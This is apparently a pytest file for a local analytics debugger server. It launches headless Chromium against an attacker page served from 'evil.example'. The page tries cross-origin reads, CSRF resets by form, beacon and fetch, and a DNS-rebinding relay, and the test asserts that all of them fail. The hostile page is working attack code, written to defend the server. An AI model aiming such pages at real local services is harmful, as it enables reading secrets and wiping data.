"""The hostile page in real headless Chromium (Debian's ``chromium``; ``.ci/run`` installs it).

``test_hostile_page.py`` sends the header sets a browser would; this test checks the browser
really sends them and really withholds the answers. A page on a second loopback origin
(``http://evil.example:PORT``, resolved to 127.0.0.1 by ``--host-resolver-rules``) tries
every API route and reset cross-origin (CORS, no-cors, simple POST, preflighted POST,
sendBeacon, a form, a ``<script src>``), then the same requests *same-origin* through its
own host, which the attacker's server relays to segdbg byte for byte: what a DNS rebinding
looks like from segdbg's side. It reports what it could read; the capture must be intact and
analytics.js-style ingest from the page must still work.
"""

from __future__ import annotations

import asyncio
import os
import signal
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Self

import aiohttp
import orjson
import pytest
from aiohttp import web

from debugger.server.app import ServerThread
from debugger.server.settings import Settings
from tests.chromium import launch
from tests.helpers import events, http

pytestmark = pytest.mark.slow

SECRET = "Secret-b41d"
READS = [
    "/debugger/api/events",
    "/debugger/api/events/1",
    "/debugger/api/stats",
    "/debugger/api/schema",
    "/debugger/api/wait?timeout=0",
    "/healthz",
]
RESET = "/debugger/api/reset"
OPAQUE = {"status": 0, "type": "opaque", "body": ""}
HOP_BY_HOP = {"connection", "keep-alive", "transfer-encoding", "content-length", "content-encoding", "upgrade"}

PAGE = """<!doctype html><title>totally normal page</title><script>
const V = %(victim)s, READS = %(reads)s, RESET = %(reset)s;
const results = {};
async function attempt(name, fn) {
  try { results[name] = await fn(); } catch (e) { results[name] = {blocked: String(e.name)}; }
}
async function read(url, init) {
  const r = await fetch(url, init);
  return {status: r.status, type: r.type, body: await r.text()};
}
function loaded(element, ms) {
  return new Promise(done => {
    element.onload = () => done("load"); element.onerror = () => done("error");
    setTimeout(() => done("timeout"), ms);
  });
}
(async () => {
  for (const p of READS) await attempt("cors " + p, () => read(V + p));
  for (const p of READS) await attempt("no-cors " + p, () => read(V + p, {mode: "no-cors"}));
  await attempt("script tag", () => {
    const s = document.createElement("script"); s.src = V + READS[0];
    const done = loaded(s, 5000); document.body.appendChild(s); return done;
  });
  await attempt("reset simple", () => read(V + RESET, {method: "POST", body: "{}"}));
  await attempt("reset no-cors", () => read(V + RESET, {method: "POST", mode: "no-cors", body: "{}"}));
  await attempt("reset json", () => read(V + RESET, {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}));
  await attempt("reset beacon", async () => ({queued: navigator.sendBeacon(V + RESET, "{}")}));
  await attempt("reset form", () => {
    const frame = document.createElement("iframe"); frame.name = "sink"; document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.action = V + RESET; form.target = "sink"; form.enctype = "text/plain";
    const field = document.createElement("input"); field.name = '{"a":"'; field.value = '"}'; form.appendChild(field);
    document.body.appendChild(form);
    const done = loaded(frame, 5000); form.submit(); return done;
  });
  for (const p of READS) await attempt("rebound " + p, () => read(p));
  await attempt("rebound reset", () => read(RESET, {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}));
  await attempt("ingest", () => read(V + "/v1/t", {method: "POST", credentials: "include",
    headers: {"Content-Type": "text/plain", "Authorization": "Basic " + btoa("wk:")},
    body: JSON.stringify({type: "track", event: "From The Page", userId: "u9"})}));
  await new Promise(r => setTimeout(r, 500));  // let the beacon and the form land first
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class Attacker:
    """The attacker's web server on its own loop: the page, a report sink, and a relay to segdbg."""

    def __init__(self, victim_url: str) -> None:
        self.victim_url = victim_url
        self.report: dict[str, Any] | None = None
        self.reported = threading.Event()
        self.port = 0
        self._loop = asyncio.new_event_loop()
        self._runner: web.AppRunner | None = None
        self._session: aiohttp.ClientSession | None = None
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        self._ready.wait(10)
        return self

    def __exit__(self, *exc: object) -> None:
        asyncio.run_coroutine_threadsafe(self._stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)
        self._loop.run_until_complete(self._start())
        self._ready.set()
        self._loop.run_forever()
        self._loop.close()

    async def _start(self) -> None:
        app = web.Application()
        app.router.add_get("/", self._page)
        app.router.add_post("/report", self._report)
        app.router.add_route("*", "/{tail:.*}", self._relay)
        self._session = aiohttp.ClientSession(auto_decompress=False)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = int(self._runner.addresses[0][1])

    async def _stop(self) -> None:
        assert self._session is not None and self._runner is not None
        await self._session.close()
        await self._runner.cleanup()

    async def _page(self, request: web.Request) -> web.Response:
        html = PAGE % {
            "victim": orjson.dumps(self.victim_url).decode(),
            "reads": orjson.dumps(READS).decode(),
            "reset": orjson.dumps(RESET).decode(),
        }
        return web.Response(text=html, content_type="text/html")

    async def _report(self, request: web.Request) -> web.Response:
        self.report = orjson.loads(await request.read())
        self.reported.set()
        return web.Response(text="ok")

    async def _relay(self, request: web.Request) -> web.Response:
        """Forward the browser's request unchanged (Host included): segdbg sees what a rebound name sends."""
        assert self._session is not None
        headers = [(k, v) for k, v in request.headers.items() if k.lower() not in HOP_BY_HOP]
        async with self._session.request(
            request.method, self.victim_url + request.path_qs, headers=headers, data=await request.read()
        ) as answer:
            body = await answer.read()
            kept = {k: v for k, v in answer.headers.items() if k.lower() not in HOP_BY_HOP}
            return web.Response(status=answer.status, body=body, headers=kept)


@pytest.fixture
def victim(tmp_path: Path) -> Iterator[ServerThread]:
    """segdbg with one captured event carrying a secret."""
    with ServerThread(Settings(db=tmp_path / "victim.db", port=0)) as running:
        answer = http(running.url + "/v1/track", body={"writeKey": "wk", "userId": "u1", "event": SECRET})
        assert answer.status == 200
        yield running


def run_page(url: str, profile: Path, attacker: Attacker, timeout: float = 45) -> dict[str, Any]:
    """Open ``url`` in headless Chromium until the page reports (then stop it and its children)."""
    browser = launch(url, profile, "MAP evil.example 127.0.0.1")
    try:
        if not attacker.reported.wait(timeout):
            os.killpg(browser.pid, signal.SIGKILL)
            _, err = browser.communicate(timeout=10)
            raise AssertionError(f"the page did not report within {timeout} s; chromium said: {err.decode()[-2000:]}")
    finally:
        if browser.poll() is None:
            os.killpg(browser.pid, signal.SIGKILL)  # our own process group: chromium and its helpers
            browser.communicate(timeout=10)
    assert attacker.report is not None
    return attacker.report


def test_a_hostile_page_in_chromium_reads_nothing_and_deletes_nothing(victim: ServerThread, tmp_path: Path) -> None:
    """Real browser, real page on another origin and a rebound name: nothing readable, nothing deleted, ingest works."""
    with Attacker(victim.url) as attacker:
        report = run_page(f"http://evil.example:{attacker.port}/", tmp_path / "profile", attacker)
    for name, outcome in report.items():
        assert SECRET not in orjson.dumps(outcome).decode(), (name, outcome)
    for path in READS:
        assert report[f"cors {path}"] == {"blocked": "TypeError"}, path  # no Allow-Origin: fetch() rejects
        # CORP same-origin: Chromium refuses even the opaque answer (older ones give an empty opaque one).
        assert report[f"no-cors {path}"] in ({"blocked": "TypeError"}, OPAQUE), path
        rebound = report[f"rebound {path}"]
        assert rebound["status"] == 403 and "forbidden_host" in rebound["body"], (path, rebound)
    assert report["script tag"] == "error"
    assert report["reset simple"] == {"blocked": "TypeError"}
    assert report["reset json"] == {"blocked": "TypeError"}  # the preflight was refused
    assert report["reset no-cors"] in ({"blocked": "TypeError"}, OPAQUE)
    assert report["reset beacon"] == {"queued": True} and report["reset form"] == "load"  # sent, and refused
    assert report["rebound reset"]["status"] == 403
    assert report["ingest"] == {"status": 200, "type": "cors", "body": '{"success":true}'}
    names = [e["name"] for e in events(victim.settings.db)]
    assert names == [SECRET, "From The Page"]
